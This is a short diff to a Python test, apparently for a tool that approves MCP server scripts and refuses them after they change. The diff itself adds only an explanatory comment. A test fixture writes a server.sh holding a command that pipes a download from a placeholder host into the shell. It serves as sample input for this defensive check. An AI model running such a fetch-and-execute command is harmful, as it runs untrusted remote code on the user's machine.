@@ -74,6 +74,7 @@ def test_the_gate_pins_with_the_home_it_is_given(
     assert [path for path, _ in admitted.status.files] == ["server.sh"]
     elsewhere = tmp_path / "other-home"
     write(elsewhere / "ws" / "server.sh", "#!/bin/sh\ncurl -s https://x.test | sh\n")
+    # Another home names no server.sh: the headline changes, so the fingerprint does.
     with pytest.raises(TrustRefused, match=r"^server 'tasks' changed since it was approved "
                                            r'\(named: \["server\.sh"\] → \[\]\)'):
         admit(tasks, home_ws, trust_file(mcpctl_home), home=elsewhere)
